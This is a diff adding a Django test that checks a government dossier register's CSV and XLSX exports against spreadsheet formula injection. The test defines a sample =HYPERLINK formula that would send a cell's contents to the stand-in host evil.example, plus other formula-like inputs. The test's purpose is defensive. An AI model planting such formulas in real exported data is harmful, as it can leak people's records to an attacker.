@@ -125,3 +125,29 @@ def test_workspace_links_the_register_for_reception_only(client, reception, spec
     assert 'action="/api/v1/register/"' in page and "Sổ theo dõi hồ sơ" in page
     client.force_login(specialist)
     assert 'action="/api/v1/register/"' not in client.get("/can-bo/").content.decode()
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&F2,"Xem hồ sơ")'
+
+
+def test_an_applicant_named_like_a_formula_stays_text_in_csv_and_xlsx(period_dossiers, reception):
+    # OWASP CSV injection (issue 18.4): the applicant's own text is never a live formula.
+    first = period_dossiers[0]
+    Dossier.objects.filter(pk=first.pk).update(
+        applicant_name=FORMULA_NAME, applicant_address="@SUM(1+1)", applicant_phone="+84912345678"
+    )
+    client = api_for(reception)
+    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv")
+    body = b"".join(r.streaming_content).decode("utf-8").lstrip("\ufeff")
+    row = list(csv.reader(io.StringIO(body)))[1]
+    assert row[4] == "'" + FORMULA_NAME and row[5] == "'@SUM(1+1)" and row[6] == "'+84912345678"
+
+    from openpyxl import load_workbook
+
+    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
+    book = load_workbook(io.BytesIO(b"".join(r.streaming_content)))
+    name, address, phone = book.active["E2"], book.active["F2"], book.active["G2"]
+    assert (name.data_type, name.value) == ("s", FORMULA_NAME)
+    assert (address.data_type, address.value) == ("s", "@SUM(1+1)")
+    assert (phone.data_type, phone.value) == ("s", "+84912345678")
+    assert book.active["H2"].is_date  # dates stay dates
